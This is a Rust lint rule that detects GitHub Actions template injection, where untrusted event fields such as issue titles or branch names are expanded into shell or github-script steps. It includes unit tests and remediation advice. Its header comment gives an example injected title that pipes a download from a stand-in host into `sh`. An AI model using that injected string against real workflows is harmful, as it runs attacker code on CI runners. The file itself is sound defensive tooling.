//! `template-injection`: attacker-controlled context expanded with `${{ }}` into a shell script
//! or an `actions/github-script` script.
//!
//! GitHub substitutes `${{ }}` into the script text before the shell or Node reads it, so an
//! issue title such as `"; curl evil | sh; "` becomes code. The finding points at the
//! expression itself. Only contexts an outsider can set are reported: titles, bodies, branch
//! names, label names, commit messages and author fields of events. Workflow inputs,
//! `github.ref_name` and `github.base_ref` need write access to set and are not reported.

use std::sync::LazyLock;

use regex::Regex;

use super::{Finding, Rule, Severity, Sources, YamlFile, action_name, jobs, steps};
use crate::evidence::Confidence;
use crate::parse::yaml::Node;
use crate::source::Location;

pub const RULE: Rule = Rule {
    id: "template-injection",
    severity: Severity::Error,
    confidence: Confidence::High,
    summary: "untrusted event data expanded into a script",
    help: "pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) \
           and use it quoted in the script (`\"$TITLE\"`)",
    practices: &["AUT-06", "AUT-07"],
};

static EXPRESSION: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"\$\{\{(.*?)\}\}").ok());

static UNTRUSTED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r"github\.head_ref\b|",
        r"github\.event\.(?:",
        r"(?:issue|pull_request|discussion)\.(?:title|body)\b|",
        r"(?:comment|review|review_comment)\.body\b|",
        r"pull_request\.head\.(?:ref|label|repo\.default_branch)\b|",
        r"label\.name\b|pull_request\.labels\b|",
        r"(?:head_commit|workflow_run\.head_commit)\.(?:message|author\.(?:email|name))\b|",
        r"commits(?:\[[^\]]*\]|\.\*)?\.(?:message|author\.(?:email|name))\b|",
        r"workflow_run\.(?:head_branch|display_title)\b|",
        r"pages(?:\[[^\]]*\]|\.\*)?\.page_name\b",
        r")"
    ))
    .ok()
});

/// The untrusted context named in the expression text, if any. Expressions that can only
/// evaluate to a boolean (`contains(...)`, `a == b`) expand to `true` or `false` and are safe.
pub(crate) fn untrusted_context(expression: &str) -> Option<&str> {
    let inner = expression
        .trim_start_matches("${{")
        .trim_end_matches("}}")
        .trim()
        .to_ascii_lowercase();
    let boolean_call = ["contains(", "startswith(", "endswith("]
        .iter()
        .any(|f| inner.starts_with(f) && inner.ends_with(')'));
    let comparison = (inner.contains("==") || inner.contains("!="))
        && !inner.contains("||")
        && !inner.contains("&&");
    if boolean_call || comparison {
        return None;
    }
    UNTRUSTED.as_ref()?.find(expression).map(|m| m.as_str())
}

/// Reports every untrusted `${{ }}` in the source lines of a script node.
fn scan(node: &Node, what: &str, file: &YamlFile, out: &mut Vec<Finding>) {
    let Some(expression) = EXPRESSION.as_ref() else {
        return;
    };
    let lines = file
        .text
        .lines()
        .enumerate()
        .skip(node.span.line.saturating_sub(1))
        .take(node.span.end_line.max(node.span.line) + 1 - node.span.line.max(1));
    for (index, line) in lines {
        for found in expression.find_iter(line) {
            let Some(context) = untrusted_context(found.as_str()) else {
                continue;
            };
            let column = line[..found.start()].chars().count() + 1;
            let end_column = column + found.as_str().chars().count();
            let location = Location::line(file.path, index + 1, column, end_column);
            out.push(Finding::new(
                &RULE,
                location,
                format!("`{context}` is expanded into {what}; anyone who can set it runs code"),
                file.text,
            ));
        }
    }
}

pub fn audit(sources: &Sources) -> Vec<Finding> {
    let mut out = Vec::new();
    for file in &sources.workflows {
        for document in &file.documents {
            for (_, job) in jobs(document) {
                for step in steps(job) {
                    if let Some(run) = step.get("run") {
                        scan(run, "a `run:` script", file, &mut out);
                    }
                    let is_script = step
                        .get("uses")
                        .and_then(Node::as_str)
                        .is_some_and(|u| action_name(u) == "actions/github-script");
                    if is_script
                        && let Some(script) = step.get("with").and_then(|w| w.get("script"))
                    {
                        scan(script, "a github-script `script:`", file, &mut out);
                    }
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::untrusted_context;

    #[test]
    fn contexts() {
        assert!(untrusted_context("${{ github.event.issue.title }}").is_some());
        assert!(untrusted_context("${{ github.head_ref }}").is_some());
        assert!(untrusted_context("${{ github.event.pull_request.head.ref }}").is_some());
        assert!(untrusted_context("${{ github.event.pull_request.head.sha }}").is_none());
        assert!(untrusted_context("${{ github.event.pull_request.number }}").is_none());
        assert!(untrusted_context("${{ github.event.commits[0].message }}").is_some());
        assert!(untrusted_context("${{ github.event.label.name }}").is_some());
        assert!(untrusted_context("${{ toJSON(github.event.pull_request.labels) }}").is_some());
        assert!(untrusted_context("${{ inputs.version }}").is_none());
        assert!(
            untrusted_context("${{ contains(github.event.pull_request.labels.*.name, 'x') }}")
                .is_none()
        );
        assert!(untrusted_context("${{ github.event.issue.title == 'x' }}").is_none());
        assert!(untrusted_context("${{ github.event.issue.title || 'x' }}").is_some());
    }
}
